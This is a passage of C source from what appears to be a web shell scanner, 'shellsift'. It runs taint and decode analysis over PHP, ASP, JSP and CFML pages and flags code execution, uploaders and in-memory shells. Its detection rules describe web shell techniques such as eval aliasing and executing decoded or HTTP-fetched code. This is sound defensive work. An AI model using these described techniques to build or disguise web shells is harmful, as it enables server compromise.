      if (!d && paren && lang_reflect_sink(c, i, &d, &a, &b)) {
        snprintf(via, sizeof via, " through reflection");
        lang_caps_sink(c, d, t->line);
      }
      /* property sinks: psi.FileName = ..., and FileName = ... in an initializer */
      if (is_op(c, i + 1, "=")) {
        /* only a member can be a property sink: shell = ... assigns a variable */
        const name_def *set = d && strchr(d->name, '.') ? d : NULL;
        if (!set && c->saw_psi && (tok_is(c, t, TK_IDENT, "filename") || tok_is(c, t, TK_IDENT, "arguments")))
          set = lang_names_lookup("processstartinfo.arguments", 26, c->syn);
        if (set && set->kind == N_SINK && set->id == SK_CMD) {
          note_wrapper_sink(c, set);
          size_t s, e;
          arg_span(c, i + 2, c->nst, 1, &s, &e);
          snprintf(display, sizeof display, "%s", set->display);
          check_sink(c, set, display, t->line, s, e);
        }
        continue;
      }
      if (!paren && !(c->syn == SYN_VB || (d && d->id == SK_INCLUDE) || (t->flags & TF_NEW))) continue;
      if (!paren && c->syn == SYN_PHP && !(d && d->id == SK_INCLUDE)) continue;
    }
    if (!d || d->kind != N_SINK || d->id == SK_CREATE) continue;
    if (tok_is(c, t, TK_IDENT, "function") && !(t->flags & TF_NEW) && is_op(c, b + 1, "{"))
      continue; /* function (x) { ... }: a function expression, not the constructor */
    if (d->id == SK_WRITE && d->arg == 0) a = i, b = i + 1; /* the path is the object: fi.CreateText() */
    note_wrapper_sink(c, d);
    if (b > c->nst) b = c->nst;
    if (b > 0 && b == c->nst && is_op(c, b - 1, "{")) b--;
    snprintf(display, sizeof display, "%s%s", d->display, via);
    check_sink(c, d, display, t->line, a, b);
  }
}

static void record_assignment(lang_ctx *c, size_t eq, int cond) {
  if (eq >= c->nst) return;
  const token *tg = assign_target(c, eq);
  if (!tg) return;
  char name[128];
  size_t n = tg->len < sizeof name ? tg->len : sizeof name;
  memcpy(name, tok_text(c, tg), n);
  int compound = !is_op(c, eq, "=");
  size_t a = eq + 1, b = c->nst;
  if (b > a && is_op(c, b - 1, "{")) b--;
  taint t;
  int tainted = lang_span_taint(c, a, b, &t);
  char type[96];
  int typed = a < b && (creator_type(c, a, type, sizeof type) || lang_reflect_type(c, a, b, type, sizeof type) ||
                        lang_request_alias_type(c, eq, a, b, type, sizeof type));
  char dec[48];
  if (!typed && a < b && (c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && lang_decoded_value(c, a, b, dec, sizeof dec))
    typed = snprintf(type, sizeof type, "decoded:%s", dec) > 0; /* code = Decode(data): Execute code later */
  else if (!typed && a < b && (c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && reads_file(c, a, b))
    typed = snprintf(type, sizeof type, "fileread") > 0;
  int is_const = b == a + 1 && c->st[a].kind == TK_STR && !(c->st[a].flags & TF_INTERP) && c->st[a].len < 65536;
  sym *s = lang_sym_get(c, name, n, tainted || typed || is_const);
  if (!s) return;
  if (tainted) s->t = t, s->has_taint = 1;
  else if (!compound && !cond) s->has_taint = 0;
  if (is_const && !compound && !(cond && s->has_taint)) {
    s->val = c->st[a];
    s->val.off = lang_arena_put(&c->persist, tok_text(c, &c->st[a]), c->st[a].len);
    s->has_const = 1;
  } else if (is_const && s->has_const && c->persist.len < (8u << 20)) { /* $s .= 'al' */
    uint32_t off = lang_arena_put(&c->persist, c->persist.buf + s->val.off, s->val.len);
    lang_arena_append(&c->persist, tok_text(c, &c->st[a]), c->st[a].len);
    s->val.off = off;
    s->val.len += c->st[a].len;
  } else {
    s->has_const = 0;
  }
  if (typed) {
    s->type_off = lang_arena_put(&c->persist, type, strlen(type));
    s->type_len = (uint32_t)strlen(type);
    s->has_type = 1;
  }
}

/* define('NAME', 'value') makes a constant. */
static void record_define(lang_ctx *c) {
  if (c->syn != SYN_PHP) return;
  for (size_t i = 0; i + 5 < c->nst; i++)
    if (tok_is(c, &c->st[i], TK_IDENT, "define") && is_op(c, i + 1, "(") && c->st[i + 2].kind == TK_STR &&
        is_op(c, i + 3, ",") && c->st[i + 4].kind == TK_STR && is_op(c, i + 5, ")")) {
      char name[64];
      size_t n = c->st[i + 2].len < sizeof name ? c->st[i + 2].len : sizeof name;
      for (size_t k = 0; k < n; k++) {
        char ch = tok_text(c, &c->st[i + 2])[k];
        name[k] = (char)(ch >= 'A' && ch <= 'Z' ? ch + 32 : ch);
      }
      sym *s = lang_sym_get(c, name, n, 1);
      if (!s) return;
      s->val = c->st[i + 4];
      s->val.off = lang_arena_put(&c->persist, tok_text(c, &c->st[i + 4]), c->st[i + 4].len);
      s->has_const = 1;
    }
}

/* [WebMethod] string Run(string cmd) (C#), WebMethodAttribute function
 * Run(cmd : String) (JScript.NET): a web service method's parameters are
 * what the SOAP or JSON request sent. */
static void webmethod_params(lang_ctx *c, size_t name) {
  int web = 0;
  for (size_t i = 0; i < name && !web; i++)
    web = c->st[i].kind == TK_IDENT && (tok_is(c, &c->st[i], TK_IDENT, "webmethod") ||
                                        tok_is(c, &c->st[i], TK_IDENT, "webmethodattribute"));
  if (!web || !is_op(c, name + 1, "(")) return;
  size_t close = lang_match_close(c, name + 1);
  for (size_t i = name + 2, last = 0; i <= close && i < c->nst; i++) {
    if (c->st[i].kind == TK_IDENT) {
      if (!last || !is_op(c, last + 1, ":")) last = i; /* JScript: the name before ':' */
      continue;
    }
    if (!(is_op(c, i, ",") || i == close) || !last) continue;
    const token *p = &c->st[last];
    sym *sy = lang_sym_get(c, tok_text(c, p), p->len, 1);
    if (sy) {
      memset(&sy->t, 0, sizeof sy->t);
      snprintf(sy->t.src, sizeof sy->t.src, "the web method parameter %.40s", tok_text(c, p));
      sy->t.flags = TA_PURE;
      sy->t.line = p->line;
      sy->has_taint = 1;
      sy->has_const = 0;
      if (!c->caps.request) c->caps.request = p->line;
    }
    last = 0;
  }
}

/* Function definitions: remembered so a call to one that wraps a sink or
 * an XOR loop counts as that sink or a decryption. */
static void end_function(lang_ctx *c) {
  if (c->fn && c->wrappers[c->fn - 1].shape == 3) c->decoders = 1; /* a second pass sees calls made before it */
  if (c->fn && c->fn == (int)c->nwrappers && !c->wrappers[c->fn - 1].sink && !c->wrappers[c->fn - 1].xor &&
      !c->wrappers[c->fn - 1].decoder && c->wrappers[c->fn - 1].shape != 3)
    c->nwrappers--; /* wraps nothing: forget it */
  c->fn = 0;
  c->in_fn = 0;
  c->scope = 0;
}

static void track_functions(lang_ctx *c) {
  const token *last = &c->st[c->nst - 1];
  if (c->syn == SYN_VB && c->nst >= 2 && tok_is(c, &c->st[0], TK_IDENT, "end") &&
      (tok_is(c, &c->st[1], TK_IDENT, "function") || tok_is(c, &c->st[1], TK_IDENT, "sub"))) {
    end_function(c);
    return;
  }
  int open = tok_is(c, last, TK_OP, "{"), close = tok_is(c, last, TK_OP, "}");
  if (close) {
    if (c->in_fn && c->depth <= c->fn_depth) end_function(c);
    if (c->depth > 0) c->depth--;
    return;
  }
  if (!open && c->syn != SYN_VB) return;
  if (open) c->depth++;
  if (c->in_fn) return;
  /* the name: after `function`/`sub`, or the identifier before the first "(" */
  const token *name = NULL;
  for (size_t i = 0; i + 1 < c->nst; i++) {
    const token *t = &c->st[i];
    if (tok_is(c, t, TK_IDENT, "function") || tok_is(c, t, TK_IDENT, "sub")) {
      if (i > 0 && (tok_is(c, &c->st[i - 1], TK_IDENT, "exit") || tok_is(c, &c->st[i - 1], TK_IDENT, "end"))) return;
      if (c->st[i + 1].kind == TK_IDENT) name = &c->st[i + 1];
      break;
    }
    if (c->syn != SYN_PHP && c->syn != SYN_VB && t->kind == TK_IDENT && is_op(c, i + 1, "(") && open) {
      static const char *const kw[] = {"if", "for", "foreach", "while", "switch", "catch", "using", "lock",
                                       "synchronized", "with", "fixed"};
      int ctl = 0;
      for (size_t k = 0; k < sizeof kw / sizeof kw[0]; k++) ctl |= tok_is(c, t, TK_IDENT, kw[k]);
      if (!ctl && i > 0 && c->st[i - 1].kind == TK_IDENT && !(t->flags & TF_NEW)) name = t;
      break;
    }
  }
  if (!name) return;
  webmethod_params(c, (size_t)(name - c->st));
  if (is_op(c, (size_t)(name - c->st) + 1, "(")) lang_request_params(c, (size_t)(name - c->st) + 1);
  c->in_fn = 1;
  c->fn_depth = c->depth;
  if (c->syn == SYN_PHP) c->scope = ++c->scopes;
  if (c->nwrappers == MAX_WRAPPERS) return;
  wrapper *w = &c->wrappers[c->nwrappers++];
  memset(w, 0, sizeof *w);
  const char *s = tok_text(c, name);
  const char *dot = strrchr(s, '.');
  snprintf(w->name, sizeof w->name, "%s", dot ? dot + 1 : s);
  c->fn = (int)c->nwrappers;
}

/* Is the statement in st run on one branch only: inside an If, loop or
 * Select block (VB), after a single-line If's Then, in a C-like
 * if/else/loop body, braced or not?  Not for PHP, whose taint model is
 * its own. */
static int conditional(const lang_ctx *c) {
  static const char *const ctl[] = {"if", "else", "for", "foreach", "while", "do", "switch", "case", "catch", "try"};
  if (c->syn == SYN_PHP || !c->nst) return 0;
  if (c->syn == SYN_VB) return c->vb_blocks > 0 || (c->then_line && c->st[0].line == c->then_line);
  uint64_t open = c->brace_level >= 64 ? ~(uint64_t)0 : ((uint64_t)1 << c->brace_level) - 1;
  if (c->cond_braces & open) return 1;
  for (size_t k = 0; k < sizeof ctl / sizeof ctl[0]; k++)
    if (tok_is(c, &c->st[0], TK_IDENT, ctl[k]) || (c->st[0].kind == TK_OP && c->nst > 1 &&
                                                 tok_is(c, &c->st[1], TK_IDENT, ctl[k])))
      return 1;
  return 0;
}

/* Opens and closes the blocks conditional() asks about. */
static void track_blocks(lang_ctx *c) {
  static const char *const vb_open[] = {"for", "do", "while", "select"};
  static const char *const vb_close[] = {"next", "loop", "wend"};
  const token *f = &c->st[0], *last = &c->st[c->nst - 1];
  if (c->syn == SYN_VB) {
    if (tok_is(c, f, TK_IDENT, "end") && c->nst >= 2 &&
        (tok_is(c, &c->st[1], TK_IDENT, "if") || tok_is(c, &c->st[1], TK_IDENT, "select"))) {
      if (c->vb_blocks) c->vb_blocks--;
      return;
    }
    for (size_t k = 0; k < sizeof vb_close / sizeof vb_close[0]; k++)
      if (tok_is(c, f, TK_IDENT, vb_close[k]) && c->vb_blocks) c->vb_blocks--;
    for (size_t k = 0; k < sizeof vb_open / sizeof vb_open[0]; k++)
      if (tok_is(c, f, TK_IDENT, vb_open[k])) c->vb_blocks++;
    return;
  }
  if (c->syn == SYN_PHP) return;
  if (tok_is(c, last, TK_OP, "{")) {
    if (c->brace_level < 64) {
      uint64_t bit = (uint64_t)1 << c->brace_level;
      c->cond_braces = conditional(c) ? c->cond_braces | bit : c->cond_braces & ~bit;
    }
    c->brace_level++;
  } else if (tok_is(c, last, TK_OP, "}") && c->brace_level) {
    c->brace_level--;
  }
}

static void process(lang_ctx *c) {
  if (!c->nst) goto out;
  if ((++c->statements & 255) == 0 && c->budget->deadline > 0 && lang_now() > c->budget->deadline) {
    c->budget->exhausted = 1;
    c->budget->why = "time limit";
  }
  if (c->budget->exhausted && c->budget->why && strcmp(c->budget->why, "time limit") == 0) goto out;
  size_t eq = find_assign(c);
  lang_fold_statement(c, eq < c->nst ? eq + 1 : 0);
#ifdef LANG_DEBUG /* cc -DLANG_DEBUG: each statement as the analyzer sees it, after folding */
  fprintf(stderr, "[%u L%u syn%d]", c->level, c->st[0].line, c->syn);
  for (size_t i = 0; i < c->nst; i++) fprintf(stderr, " %s%.*s", c->st[i].kind == TK_STR ? "\"" : "", (int)(c->st[i].len > 60 ? 60 : c->st[i].len), tok_text(c, &c->st[i]));
  fprintf(stderr, "\n");
#endif
  if (eq < c->nst) eq = find_assign(c); /* folding never moves it, but be sure */
  find_sinks(c);
  embedded_pages(c);
  lang_caps_statement(c);
  lang_cfml_statement(c);
  int cond = conditional(c);
  record_assignment(c, eq, cond);
  record_define(c);
  track_functions(c);
  track_blocks(c);
out:
  c->nst = 0;
  c->parens = 0;
  c->init_braces = 0;
  c->sink.text.len = 0;
}

/* Joins a.b and a().b into one qualified name token; returns 1 if t was merged. */
static int join(lang_ctx *c, const token *t) {
  size_t n = c->nst, back;
  const char *sep;
  if (n >= 2 && is_op(c, n - 1, ".") && c->st[n - 2].kind == TK_IDENT) back = 2, sep = ".";
  else if (n >= 4 && is_op(c, n - 1, ".") && is_op(c, n - 2, ")") && is_op(c, n - 3, "(") &&
           c->st[n - 4].kind == TK_IDENT)
    back = 4, sep = "().";
  else
    return 0;
  token *p = &c->st[n - back];
  uint32_t off = lang_arena_put(&c->sink.text, c->sink.text.buf + p->off, p->len);
  lang_arena_append(&c->sink.text, sep, strlen(sep));
  lang_arena_append(&c->sink.text, c->sink.text.buf + t->off, t->len);
  p->off = off;
  p->len += (uint32_t)strlen(sep) + t->len;
  if (back == 4) p->flags &= (uint8_t)~TF_NEW; /* new A().b(): a call on the new object */
  p->src_end = t->src_end;
  c->nst = n - back + 1;
  return 1;
}

static void on_token(tok_sink *s, token *t) {
  lang_ctx *c = (lang_ctx *)s;
  if ((int)c->syn != s->syn) {
    /* the statement before is in the other language; ending it empties
     * the text arena, which already holds this token's text */
    char *keep = xmalloc(t->len + 1u);
    memcpy(keep, s->text.buf + t->off, t->len);
    process(c);
    c->syn = (syntax)s->syn;
    t->off = lang_arena_put(&s->text, keep, t->len);
    free(keep);
  }
  const char *text = s->text.buf + t->off;
  if ((t->kind == TK_STR || t->kind == TK_IDENT) && t->len > c->longest) c->longest = t->len;
  if (t->kind == TK_STR && t->len >= 64 && lang_stats_is_blob(text, t->len)) c->blob_bytes += t->len;
  if (t->kind == TK_END) {
    process(c);
    return;
  }
  if (c->then_pending && t->kind != TK_END) {
    /* the statement after Then on its line is guarded by it; on a later line, Then opened a block */
    c->then_pending = 0;
    if (t->line != c->then_line) c->vb_blocks++, c->then_line = 0;
  }
  if (c->syn == SYN_VB && t->kind == TK_IDENT && c->nst && tok_is(c, t, TK_IDENT, "then") &&
      (tok_is(c, &c->st[0], TK_IDENT, "if") || tok_is(c, &c->st[0], TK_IDENT, "elseif"))) {
    /* If cond Then stmt on one line: what follows Then is a statement */
    int elseif = tok_is(c, &c->st[0], TK_IDENT, "elseif");
    process(c);
    if (!elseif) c->then_pending = 1, c->then_line = t->line; /* an ElseIf's block is its If's */
    return;
  }
  if (c->syn != SYN_PHP && t->kind == TK_IDENT && join(c, t)) return;
  if (t->kind == TK_IDENT && c->nst && tok_is(c, &c->st[c->nst - 1], TK_IDENT, "new")) {
    c->nst--;
    t->flags |= TF_NEW;
  }
  if (c->nst == c->capst) {
    c->capst = c->capst ? c->capst * 2 : 256;
    c->st = xrealloc(c->st, c->capst * sizeof *c->st);
  }
  c->st[c->nst++] = *t;
  /* a brace ends a statement, except inside parentheses: new String[]{...},
   * initializers and closures passed as arguments stay with their call */
  if (t->kind == TK_OP && t->len == 1) {
    if (text[0] == '(') c->parens++;
    else if (text[0] == ')' && c->parens > 0) c->parens--;
  }
  int brace = t->kind == TK_OP && t->len == 1 && (text[0] == '{' || text[0] == '}') && c->parens == 0;
  if (brace && c->syn != SYN_PHP) {
    /* = { ... }, ] { ... }: an initializer (String[] a = {...}; var o = {k: v}) stays in its statement */
    const token *prev = c->nst >= 2 ? &c->st[c->nst - 2] : NULL;
    if (text[0] == '{' && (c->init_braces || (prev && prev->kind == TK_OP && prev->len == 1 &&
                                               (tok_text(c, prev)[0] == '=' || tok_text(c, prev)[0] == ']'))))
      c->init_braces++, brace = 0;
    else if (text[0] == '}' && c->init_braces)
      c->init_braces--, brace = 0;
  }
  if (brace || c->nst >= MAX_STMT) process(c);
}

/* ---- files ------------------------------------------------------------- */

lang_ctx *lang_ctx_new(const lang_limits *lim) {
  lang_ctx *c = xcalloc(1, sizeof *c);
  c->sink.emit = on_token;
  c->lim = lim ? *lim : (lang_limits){LANG_DEFAULT_DEPTH, LANG_DEFAULT_DECODED, LANG_DEFAULT_MS};
  return c;
}

void lang_ctx_free(lang_ctx *c) {
  if (!c) return;
  free(c->st);
  free(c->syms);
  lang_arena_free(&c->sink.text);
  lang_arena_free(&c->persist);
  free(c);
}

int lang_wanted(const char *filetype) {
  return filetype && (strcmp(filetype, "PHP") == 0 || strcmp(filetype, "ASP") == 0 ||
                      strcmp(filetype, "ASPX") == 0 || strcmp(filetype, "JSP") == 0 ||
                      strcmp(filetype, "CFM") == 0 || strcmp(filetype, "CONFIG") == 0);
}

static void reset_file(lang_ctx *c) {
  c->nst = 0;
  c->sink.text.len = 0;
  lang_sym_reset(c);
  c->nwrappers = 0;
  c->fn = c->fn_depth = c->depth = c->in_fn = 0;
  c->scope = c->scopes = 0;
  c->want_repass = c->saw_psi = 0;
  c->decoders = c->late_types = 0;
  c->statements = 0;
  c->longest = c->blob_bytes = c->builders = 0;
  memset(&c->caps, 0, sizeof c->caps);
  c->dyn_line = c->alias_line = 0;
  c->dyn_display = NULL;
  c->script_write_line = c->register_line = 0;
  c->servu_seen = c->servu_line = 0;
  c->script_write_display = c->register_display = NULL;
}

static void lex_as(lang_ctx *c, const unsigned char *buf, size_t len, const char *filetype, int raw,
                   syntax syn) {
  c->buf = buf;
  c->len = len;
  c->fn = c->fn_depth = c->depth = c->in_fn = 0;
  c->scope = c->scopes = 0; /* the same numbering on a second pass */
  c->vb_blocks = c->then_line = 0;
  c->then_pending = c->cf_remote = 0;
  c->cond_braces = 0;
  c->brace_level = 0;
  c->syn = syn;
  c->sink.syn = (int)syn;
  if (syn == SYN_PHP) lang_lex_php(&c->sink, buf, len, raw);
  else if (syn == SYN_CFML) lang_lex_cfml(&c->sink, buf, len, raw);
  else if (raw && syn == SYN_VB) lang_lex_vb(&c->sink, buf, len, 0, 1);
  else if (raw) lang_lex_clike(&c->sink, buf, len, syn, 0, 1);
  else lang_lex_page(&c->sink, buf, len, filetype);
  process(c); /* whatever the last statement left */
}

static int any_taint(const lang_ctx *c) {
  for (size_t i = 0; i < c->capsyms; i++)
    if (c->syms[i].hash && c->syms[i].has_taint) return 1;
  return 0;
}

static int any_type(const lang_ctx *c) {
  for (size_t i = 0; i < c->capsyms; i++)
    if (c->syms[i].hash && c->syms[i].has_type) return 1;
  return 0;
}

/* Both passes over one buffer. */
static void run(lang_ctx *c, const unsigned char *buf, size_t len, const char *filetype, int raw, syntax syn) {
  c->pass = 1;
  lex_as(c, buf, len, filetype, raw, syn);
  if (((c->want_repass && any_taint(c)) || c->decoders || (c->late_types && any_type(c))) && !c->budget->exhausted) {
    c->pass = 2;
    lex_as(c, buf, len, filetype, raw, syn);
  }
}

/* The page's variables, functions and run-time findings lent to the
 * context k that reads code the page runs in its own scope (VBScript
 * Execute, JScript eval, CFML Evaluate): what the page assigned before is
 * known inside, and what the code assigns or defines is known after. */
static void lend_scope(lang_ctx *k, lang_ctx *c) {
  k->syms = c->syms, k->capsyms = c->capsyms, k->nsyms = c->nsyms;
  k->persist = c->persist;
  memcpy(k->wrappers, c->wrappers, c->nwrappers * sizeof *c->wrappers);
  k->nwrappers = c->nwrappers;
  k->alias_line = c->alias_line;
  k->dyn_line = c->dyn_line, k->dyn_display = c->dyn_display;
  k->caps = c->caps;
  k->script_write_line = c->script_write_line, k->script_write_display = c->script_write_display;
  k->register_line = c->register_line, k->register_display = c->register_display;
}

static void take_back_scope(lang_ctx *c, lang_ctx *k) {
  c->syms = k->syms, c->capsyms = k->capsyms, c->nsyms = k->nsyms;
  c->persist = k->persist;
  memcpy(c->wrappers, k->wrappers, k->nwrappers * sizeof *k->wrappers);
  c->nwrappers = k->nwrappers;
  c->alias_line = k->alias_line;
  c->dyn_line = k->dyn_line, c->dyn_display = k->dyn_display;
  c->caps = k->caps;
  c->script_write_line = k->script_write_line, c->script_write_display = k->script_write_display;
  c->register_line = k->register_line, c->register_display = k->register_display;
  c->want_repass |= k->want_repass; /* the code read a variable the page may taint later */
  c->late_types |= k->late_types;
  c->decoders |= k->decoders;
  k->syms = NULL, k->capsyms = k->nsyms = 0;
  k->persist = (arena){0};
}

/* Code found inside the file (a decoded payload, or with page set, a whole
 * server page kept in a string) analysed one level deeper; shared: it runs
 * in the page's own scope. */
static void analyze_code(lang_ctx *c, const char *code, size_t n, syntax syn, const char *page, const char *prefix,
                         unsigned line, int shared) {
  if (c->level + 1 >= c->lim.max_depth) {
    c->budget->exhausted = 1;
    if (!c->budget->why) c->budget->why = "decode depth limit";
    return;
  }
  lang_ctx *k = lang_ctx_new(&c->lim);
  char *full = xasprintf("%s%s", c->prefix ? c->prefix : "", prefix);
  /* the payload lives in c's statement arena, which k never touches */
  unsigned char *copy = xmalloc(n ? n : 1);
  memcpy(copy, code, n);
  k->budget = c->budget;
  k->res = c->res;
  k->level = c->level + 1;
  k->prefix = full;
  k->outer_line = c->level ? c->outer_line : line;
  if (shared) lend_scope(k, c);
  run(k, copy, n, page, page == NULL, syn);
  if (shared) take_back_scope(c, k);
  c->builders += k->builders;
  lang_caps_merge(&c->caps, &k->caps);
  if (!c->script_write_line) c->script_write_line = k->script_write_line, c->script_write_display = k->script_write_display;
  if (!c->register_line) c->register_line = k->register_line, c->register_display = k->register_display;
  c->servu_seen |= k->servu_seen;
  if (!c->servu_line) c->servu_line = k->servu_line;
  free(copy);
  free(full);
  lang_ctx_free(k);
}

/* VBScript's Execute/ExecuteGlobal, JScript's eval and CFML's Evaluate run
 * a string in the caller's scope; ScriptControl, CodeDom and PHP's eval
 * are left to their own. */
static int runs_in_scope(const lang_ctx *c, const name_def *d) {
  static const char *const own[] = {"execute", "executeglobal", "eval", "evaluate", "precisionevaluate"};
  if (!d || c->syn == SYN_PHP) return 0;
  for (size_t k = 0; k < sizeof own / sizeof own[0]; k++)
    if (strcmp(d->name, own[k]) == 0) return 1;
  return 0;
}

static void analyze_payload(lang_ctx *c, const name_def *d, const char *code, size_t n, syntax syn,
                            const char *prefix, unsigned line) {
  analyze_code(c, code, n, syn, NULL, prefix, line, runs_in_scope(c, d));
}

/* Request.Item[, request.getParameter(, Request.Form( at the start of a
 * decoded literal: code, not data. */
static int hides_request(const char *s, size_t n) {
  if (n < 10 || n > 256 || strncasecmp(s, "request", 7) != 0) return 0;
  return s[7] == '[' || s[7] == '(' || (s[7] == '.' && n > 9);
}

/* A JSP or ASP page kept in a string literal (a dropper writes it out
 * later): read it as the page it is. */
static void embedded_pages(lang_ctx *c) {
  static const char *const kinds[] = {[SYN_JAVA] = "JSP", [SYN_CSHARP] = "ASPX", [SYN_VB] = "ASP",
                                      [SYN_JSCRIPT] = "ASP"};
  if (c->level || c->syn == SYN_PHP || c->syn == SYN_CFML) return;
  for (size_t i = 0; i < c->nst; i++) {
    const token *t = &c->st[i];
    if (t->kind != TK_STR || (t->flags & TF_BINARY)) continue;
    const char *s = tok_text(c, t);
    if (t->nchain && hides_request(s, t->len)) {
      char chain[96], quote[40];
      lang_chain_text(t->chain, t->nchain, NULL, chain, sizeof chain);
      snprintf(quote, sizeof quote, "%.*s", (int)(t->len < 32 ? t->len : 32), s);
      for (char *q = quote; *q; q++) *q = (*q < 0x20 || *q == 0x7f) ? '.' : *q;
      add_detection(c, "shellsift.lang.decoded-payload", "webshell", 60, t->line,
                    "a literal decoded by %s hides code that reads the request (\"%s\") (line %u)", chain, quote,
                    t->line);
      continue;
    }
    if (t->len < 24 || !memmem(s, t->len, "<%", 2) || !(memmem(s, t->len, "equest", 6))) continue;
    char prefix[96];
    snprintf(prefix, sizeof prefix, "a server page kept in a string (line %u): ", t->line);
    analyze_code(c, s, t->len, c->syn, kinds[c->syn], prefix, t->line, 0);
  }
}

/* What only the whole page shows: code run from a value built at run
 * time in a page that fetches code over HTTP or carries a long encoded
 * literal, and eval passed around as a value in a page reading requests. */
static void page_verdicts(lang_ctx *c) {
  int others = c->res->ndet > 0;
  if (c->dyn_line && !others && (c->caps.seen & CAP_FETCH))
    add_detection(c, "shellsift.lang.decoded-payload", "webshell", 65, c->dyn_line,
                  "%s runs code built at run time (line %u) in a page that fetches content over HTTP (%s, line %u)",
                  c->dyn_display, c->dyn_line, c->caps.what[lang_cap_index(CAP_FETCH)], c->caps.line[lang_cap_index(CAP_FETCH)]);
  else if (c->dyn_line && !others && c->longest >= 1024)
    add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, c->dyn_line,
                  "%s runs code built at run time (line %u) in a page carrying a %zu-byte literal", c->dyn_display,
                  c->dyn_line, c->longest);
  if (c->register_line)
    add_detection(c, "shellsift.lang.code-load", "webshell", 80, c->register_line,
                  "%s adds a component to the running server at run time (line %u): an in-memory web shell "
                  "outlives this page", c->register_display, c->register_line);
  if (c->script_write_line && (c->caps.seen & CAP_FETCH)) /* wherever the two are in the page */
    add_detection(c, "shellsift.lang.uploader", "uploader", 60, c->script_write_line,
                  "%s saves content fetched over HTTP (%s, line %u) as a script page (line %u)",
                  c->script_write_display, c->caps.what[lang_cap_index(CAP_FETCH)],
                  c->caps.line[lang_cap_index(CAP_FETCH)], c->script_write_line);
  if (c->alias_line && c->caps.request && !others)
    add_detection(c, "shellsift.lang.code-exec", "webshell", 65, c->alias_line,
                  "eval is taken as a value (line %u) and called under another name in a page that reads request "
                  "input (line %u)", c->alias_line, c->caps.request);
}

void lang_analyze(lang_ctx *c, const unsigned char *buf, size_t len, const char *filetype, lang_result *out) {
  memset(out, 0, sizeof *out);
  decode_budget budget = {.remaining = c->lim.max_decoded,
                          .deadline = c->lim.max_ms ? lang_now() + c->lim.max_ms / 1000.0 : 0};
  reset_file(c);
  c->budget = &budget;
  c->res = out;
  c->level = 0;
  c->prefix = NULL;
  /* a web.config that carries server code (a handler maps .config to the
   * script engine) is a page; one without is configuration */
  if (filetype && strcmp(filetype, "CONFIG") == 0) filetype = memmem(buf, len, "<%", 2) ? "ASP" : NULL;
  /* an ASP page IIS decodes before running it is read decoded too */
  unsigned char *unpacked = NULL;
  size_t unpacked_len = 0;
  if (filetype && (strcmp(filetype, "ASP") == 0 || strcmp(filetype, "ASPX") == 0) &&
      lang_asp_unpack(buf, len, &unpacked, &unpacked_len))
    buf = unpacked, len = unpacked_len;
  else if (filetype && strcmp(filetype, "JSP") == 0 && lang_jspx_unpack(buf, len, &unpacked, &unpacked_len))
    buf = unpacked, len = unpacked_len; /* a JSP document: its code as the container compiles it */
  /* an ASP.NET page saved as .asp still has its server controls */
  int asp = filetype && (strcmp(filetype, "ASPX") == 0 || strcmp(filetype, "ASP") == 0);
  int controls = asp && lang_aspx_controls(c, buf, len);
  int objects = asp && lang_asp_objects(c, buf, len);
  if (controls) c->caps.request = 1;
  int cfml = filetype && strcmp(filetype, "CFM") == 0; /* rare enough to read whole */
  if (lang_wanted(filetype) && (controls || objects || cfml || lang_prefilter(buf, len, strcmp(filetype, "PHP") == 0))) {
    int php = strcmp(filetype, "PHP") == 0;
    run(c, buf, len, filetype, 0, php ? SYN_PHP : cfml ? SYN_CFML : strcmp(filetype, "ASP") == 0 ? SYN_VB
                                                : strcmp(filetype, "JSP") == 0 ? SYN_JAVA : SYN_CSHARP);
  }
  page_verdicts(c);
  char kit[LANG_DESC_MAX];
  unsigned kit_line;
  int kit_score = lang_caps_verdict(&c->caps, kit, sizeof kit, &kit_line);
  if (kit_score) add_detection(c, "shellsift.lang.kit", "webshell", kit_score, kit_line, "%s", kit);
  int tech_score = lang_technique_verdict(c, kit, sizeof kit, &kit_line);
  if (tech_score)
    add_detection(c, "shellsift.lang.privilege-escalation", "hacktool", tech_score, kit_line, "%s", kit);
  if (budget.exhausted) {
    out->limited = 1;
    snprintf(out->limit_why, sizeof out->limit_why, "%s", budget.why ? budget.why : "limit");
  }
  c->budget = NULL;
  c->res = NULL;
  c->buf = NULL;
  free(unpacked);
}

void lang_get_stats(const lang_ctx *c, const unsigned char *buf, size_t len, lang_stats *st) {
  lang_stats_compute(st, buf, len, c->longest, c->blob_bytes, c->builders);
}
